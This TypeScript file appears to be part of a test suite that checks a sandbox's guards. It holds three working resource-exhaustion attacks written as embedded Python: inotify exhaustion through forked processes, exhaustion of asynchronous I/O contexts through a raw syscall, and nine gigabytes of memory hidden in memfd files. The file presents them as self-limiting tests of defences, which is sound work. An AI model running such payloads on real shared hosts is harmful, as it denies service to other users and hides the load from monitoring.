/**
 * Blind attacks on limited resources of the whole machine that no watch of memory or processes counts.
 * Rule: the author had not read the guards; each attack releases its resources within three seconds.
 */
import { execFile } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { totalmem } from 'node:os';
import { promisify } from 'node:util';
import type { Attack, Host } from '../attack.ts';
import { python } from './blind-python.ts';

/** Trials in which the machine ran out of the resource while the command ran. */
const starved = new WeakSet<Host>();
/** The machine's shared memory when a trial's command began, in kibibytes. */
const sharedBefore = new WeakMap<Host, number>();
/** More memory than one command should get: nine gigabytes, or three fifths of a smaller machine. */
const HOARD_KIB = Math.min(9 * 1024 ** 2, (totalmem() / 1024) * 0.6);

/** Attacks on shared resources. */
export const blindResources: readonly Attack[] = [
  {
    name: 'no-file-watchers-left',
    area: 'resources',
    tries: 'Takes every inotify instance, so that nobody on the host can watch a file',
    command: () =>
      python(`
import ctypes, os, time
libc, started = ctypes.CDLL(None), time.time()
for _ in range(8):
    if os.fork() == 0:
        while libc.inotify_init1(0) >= 0: pass
        time.sleep(2)
        os._exit(0)
time.sleep(2.2)`),
    needs: ['python3'],
    whileRunning: async (host) => {
      const ask = 'import ctypes; print(ctypes.CDLL(None).inotify_init1(0))';
      if ((await promisify(execFile)('python3', ['-c', ask])).stdout.trim() === '-1') starved.add(host);
    },
    succeeded: async (host) => starved.has(host),
  },
  {
    name: 'no-asynchronous-io-left',
    area: 'resources',
    tries: "Takes all of the machine's asynchronous requests, which databases on it need and no namespace divides",
    command: () =>
      python(`
import ctypes, platform, time
libc, context = ctypes.CDLL(None), ctypes.c_ulong(0)
setup = 206 if platform.machine() == 'x86_64' else 0
for size in (16384, 4096, 1024, 256, 64, 1):
    context.value = 0
    while libc.syscall(setup, size, ctypes.byref(context)) == 0: context.value = 0
time.sleep(1.5)`),
    needs: ['python3'],
    whileRunning: async (host) => {
      const read = (name: string): number => Number(readFileSync(`/proc/sys/fs/${name}`, 'utf8'));
      if (read('aio-nr') > 0.9 * read('aio-max-nr')) starved.add(host);
    },
    succeeded: async (host) => starved.has(host),
  },
  {
    name: 'memory-that-no-process-has',
    area: 'resources',
    tries: 'Takes nine gigabytes in files without a name, which the resident memory of no process shows',
    command: () =>
      python(`
import os, time
free = next(int(line.split()[1]) for line in open('/proc/meminfo') if 'MemAvailable' in line)
chunk, files = bytes(1 << 24), []
if free - ${Math.floor(HOARD_KIB)} > 2 << 20:
    for part in range(${Math.ceil(HOARD_KIB / 16_384)}):
        if part % 32 == 0: files.append(os.memfd_create('hoard'))
        os.write(files[-1], chunk)
time.sleep(1)`),
    needs: ['python3'],
    whileRunning: async (host) => {
      const shared = Number(/^Shmem: +(\d+)/m.exec(readFileSync('/proc/meminfo', 'utf8'))?.[1]);
      const before = sharedBefore.get(host) ?? shared;
      sharedBefore.set(host, before);
      if (shared - before > 0.95 * HOARD_KIB) starved.add(host);
    },
    succeeded: async (host) => starved.has(host),
  },
];
